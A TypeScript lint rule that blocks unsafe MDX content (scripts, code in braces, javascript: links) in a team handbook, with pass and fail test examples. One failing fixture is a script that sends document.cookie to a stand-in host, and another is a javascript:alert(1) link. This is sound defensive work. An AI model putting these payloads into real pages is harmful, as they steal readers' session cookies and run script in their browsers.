import { type Rule, workOn } from '../engine/rule.ts';
import { policyViolations } from './utils/file-work.ts';
import { sopBodyWith } from './utils/base-handbook.ts';
import { FILE_PROBLEMS } from './utils/next-steps.ts';

/**
 * The content policy on every page body: the same function the build's own pipeline
 * runs, on a tree parsed the same way, so the check and the build agree.
 */
export const mdxUnsafe: Rule = {
	id: 'mdx/unsafe',
	severity: 'error',
	description:
		'A page body runs code, imports or exports, embeds a script or an event handler, links to a javascript:/data: address, or shows an image from outside the handbook.',
	why: 'Content arrives by pull request from many hands; a page that could run script would act as every reader of the handbook, and the handbook is where the team finds its bank procedures.',
	fix: 'Remove it and write the content in Markdown; a comment goes in `{/* ... */}`.',
	next: FILE_PROBLEMS,
	examples: {
		fails: [
			{
				title: 'a script',
				files: sopBodyWith('<script>fetch("https://example.com/?c=" + document.cookie)</script>'),
				message: "uses a <script>, which would run in readers' browsers.",
			},
			{
				title: 'code in braces',
				files: sopBodyWith('Today is {new Date().toDateString()}.'),
				message: 'runs code: {new Date().toDateString()}. A page may hold only comments in braces.',
			},
			{
				title: 'a `javascript:` link',
				files: sopBodyWith('[Open the portal](javascript:alert(1))'),
				message:
					'links to "javascript:…", an address that would run script or hide content in readers\' browsers.',
			},
		],
		passes: [
			{
				title: 'a comment and an ordinary link',
				files: sopBodyWith(
					'{/* Checked with the pod lead. */}\n[Open the portal](https://portal.example.com/)',
				),
			},
		],
	},
	reads: 'body',
	work: policyViolations,
	*check({ handbook, scope }) {
		for (const file of handbook.files) {
			if (scope && !scope.has(file.path)) continue;
			for (const v of workOn(policyViolations, file, handbook)) {
				yield {
					file: file.path,
					line: v.line + file.bodyLine - 1,
					column: v.column,
					message: v.message,
					hint: v.hint,
				};
			}
		}
	},
};
